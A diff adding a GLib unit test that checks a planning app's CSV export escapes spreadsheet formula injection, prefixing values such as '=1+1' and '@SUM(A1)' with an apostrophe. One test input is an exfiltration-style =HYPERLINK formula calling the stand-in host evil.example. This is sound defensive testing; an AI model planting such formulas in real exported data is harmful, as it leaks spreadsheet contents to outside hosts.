@@ -85,6 +85,47 @@ test_csv_quoting (void)
   g_assert_nonnull (strstr (csv, "\"Say \"\"hello\"\", then\nleave\""));
 }
 
+/* Texts a spreadsheet would evaluate are written as text, whatever field
+ * they are in: title, number, unit, objective. */
+static void
+test_csv_formula_injection (void)
+{
+  const char *json =
+    "{\"format\": \"jalons-plan\", \"version\": 1, \"id\": \"00000000-0000-4000-8000-000000000001\","
+    " \"title\": {\"en\": \"P\"},"
+    " \"units\": [{\"id\": \"00000000-0000-4000-8000-000000000009\", \"code\": \"@SUM(A1)\"}],"
+    " \"objectives\": [{\"id\": \"00000000-0000-4000-8000-000000000002\","
+    " \"number\": \"+1\", \"title\": {\"en\": \"-2+3\"}, \"actions\": ["
+    "{\"id\": \"00000000-0000-4000-8000-000000000003\", \"number\": \"=1+1\","
+    " \"title\": {\"en\": \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Click\\\")\"},"
+    " \"units\": [\"00000000-0000-4000-8000-000000000009\"]},"
+    "{\"id\": \"00000000-0000-4000-8000-000000000004\", \"number\": \"1.2\","
+    " \"title\": {\"en\": \"\\tTabbed\"}},"
+    "{\"id\": \"00000000-0000-4000-8000-000000000005\", \"number\": \"1.3\","
+    " \"title\": {\"en\": \"\\rReturn\"}},"
+    "{\"id\": \"00000000-0000-4000-8000-000000000006\", \"number\": \"1.4\","
+    " \"title\": {\"en\": \"Safe = text - here\"}}]}]}";
+  g_autoptr(GError) error = NULL;
+  g_autoptr(JlnPlan) plan = jln_json_read_plan (json, strlen (json), "f.json", &error);
+  g_autofree char *csv = NULL;
+
+  g_assert_no_error (error);
+  csv = write_csv (plan, NULL, JLN_LANG_EN);
+  g_assert_nonnull (strstr (csv, "\"'=1+1\""));
+  g_assert_nonnull (strstr (csv, "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""));
+  g_assert_nonnull (strstr (csv, "\"'+1\""));
+  g_assert_nonnull (strstr (csv, "\"'-2+3\""));
+  g_assert_nonnull (strstr (csv, "\"'@SUM(A1)\""));
+  g_assert_nonnull (strstr (csv, "\"'\tTabbed\""));
+  g_assert_nonnull (strstr (csv, "\"'\rReturn\""));
+  /* Only a first character counts. */
+  g_assert_nonnull (strstr (csv, "\"Safe = text - here\""));
+  /* No cell begins with a formula character. */
+  g_assert_null (strstr (csv, ",\"="));
+  g_assert_null (strstr (csv, ",\"+"));
+  g_assert_null (strstr (csv, ",\"@"));
+}
+
 int
 main (int   argc,
       char *argv[])
@@ -94,6 +135,7 @@ main (int   argc,
   g_test_add_func ("/core/csv/whole-plan", test_csv_whole_plan);
   g_test_add_func ("/core/csv/filtered", test_csv_filtered);
   g_test_add_func ("/core/csv/quoting", test_csv_quoting);
+  g_test_add_func ("/core/csv/formula-injection", test_csv_formula_injection);
 
   return g_test_run ();
 }
